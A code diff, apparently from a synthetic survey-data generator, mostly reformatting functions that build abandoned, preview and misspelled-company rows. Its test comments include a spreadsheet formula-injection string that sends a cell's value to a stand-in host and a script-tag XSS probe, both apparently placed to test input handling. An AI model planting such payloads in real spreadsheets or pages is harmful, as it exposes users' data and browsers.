@@ -22,7 +22,7 @@ _PREVIEWS: Final = 5
 _ALPHABET: Final = string.ascii_letters + string.digits
 _STRANGERS: Final = ("Quellmark Testing GmbH", "Ostrava Ridge Labs Ltd", "Pellworth Foods plc")
 _HOSTILE: Final = {
-    "2025": ("<b>Faster</b> quotes & fewer forms, please; \"2-3 days\" is what we were promised.",),
+    "2025": ('<b>Faster</b> quotes & fewer forms, please; "2-3 days" is what we were promised.',),
     "2026": (
         '=HYPERLINK("http://refund.example/?a="&A1,"Click here for your refund")',
         "<script>alert('survey')</script> Your web portal shows us other people's orders.",
@@ -68,7 +68,9 @@ def _stranger(company: str, number: int) -> Contact:
     return Contact(f"X-{number}", account, "", "", "", "Test Engineer", "", "", "influencer")
 
 
-def make_responses(wave: str, taking_part: list[Contact], population: Population, others: list[Contact]) -> list[Response]:
+def make_responses(
+    wave: str, taking_part: list[Contact], population: Population, others: list[Contact]
+) -> list[Response]:
     """All rows of a wave in the order they were recorded; abandoned ones and previews come from `others`."""
     rng = stream(f"responses {wave}")
     writer = Writer(stream(f"comments {wave}"))
@@ -76,9 +78,13 @@ def make_responses(wave: str, taking_part: list[Contact], population: Population
     complete = _with_hostile(complete, _HOSTILE[wave])
     chosen = [others[i] for i in rng.choice(len(others), size=_ABANDONED + _PREVIEWS, replace=False)]
     rest = [_response(rng, writer, population.opinion(rng, contact, wave)) for contact in chosen]
-    abandoned = [replace(row, progress=pick(rng, (9, 27, 45, 63)), best=SILENCE, better=SILENCE) for row in rest[:_ABANDONED]]
+    abandoned = [
+        replace(row, progress=pick(rng, (9, 27, 45, 63)), best=SILENCE, better=SILENCE) for row in rest[:_ABANDONED]
+    ]
     previews = [_as_preview(row, wave, number) for number, row in enumerate(rest[_ABANDONED:])]
-    return sorted(complete + abandoned + previews, key=lambda row: (row.started + timedelta(seconds=row.seconds), row.response_id))
+    return sorted(
+        complete + abandoned + previews, key=lambda row: (row.started + timedelta(seconds=row.seconds), row.response_id)
+    )
 
 
 def _response(rng: np.random.Generator, writer: Writer, opinion: Opinion) -> Response:
@@ -111,11 +117,15 @@ def _as_recorded(rng: np.random.Generator, name: str) -> str:
     """The company as somebody typed it into the invitation list: mostly the CRM's spelling."""
     drawn = rng.random()
     if drawn < 0.05:
-        return name.rsplit(" ", 1)[0]
+        return name.rsplit(" ", 1)[0].rstrip(",")
     if drawn < 0.07:
         return name.upper()
     if drawn < 0.08:
-        return name.replace("ü", "ue").replace("Life Sciences", "Lifesciences").replace("Pharmaceuticals", "Pharmaceutical")
+        return (
+            name.replace("ü", "ue")
+            .replace("Life Sciences", "Lifesciences")
+            .replace("Pharmaceuticals", "Pharmaceutical")
+        )
     return name
 
 
@@ -137,4 +147,6 @@ def _with_hostile(rows: list[Response], texts: tuple[str, ...]) -> list[Response
 def _as_preview(row: Response, wave: str, number: int) -> Response:
     started = OPENS[wave] - timedelta(days=3 - number % 3, hours=-number)
     test = Comment(("test", "asdf", "Test comment please ignore", "", "xxx")[number], "", "none")
-    return replace(row, preview=True, channel="preview", started=started, better=test, best=SILENCE, account_id="", company="Test")
+    return replace(
+        row, preview=True, channel="preview", started=started, better=test, best=SILENCE, account_id="", company="Test"
+    )
